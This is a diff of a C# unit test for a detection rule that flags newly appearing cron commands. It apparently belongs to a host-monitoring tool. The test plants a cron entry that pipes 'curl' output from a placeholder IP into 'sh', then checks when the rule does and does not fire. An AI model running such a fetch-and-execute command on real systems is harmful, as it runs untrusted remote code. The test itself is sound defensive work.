@@ -14,7 +14,8 @@ public sealed class CronRulesTests
         string planted = LearnedRun.Cron(s_start.AddDays(9).AddMinutes(5), "curl -s http://192.0.2.9/x | sh");
         RuleHit hit = Assert.Single(LearnedRun.Hits(nameof(NewCronCommand), known + planted));
         Assert.Equal(("root", planted.TrimEnd()), (hit.Entity, hit.Event.Raw));
-        Assert.Empty(LearnedRun.Hits(nameof(NewCronCommand), known[..(known.Length / 2)] + planted));
+        string brief = LearnedRun.Each(5 * 24, hour => LearnedRun.Cron(s_start.AddDays(4).AddHours(hour), "/opt/report --hour 5"));
+        Assert.Empty(LearnedRun.Hits(nameof(NewCronCommand), brief + planted));
         Assert.Empty(LearnedRun.Hits(
             nameof(NewCronCommand),
             known + LearnedRun.Cron(s_start.AddDays(9), "cd / && run-parts --report /etc/cron.monthly") + LearnedRun.Cron(s_start.AddDays(9), "/opt/report --hour 6")));
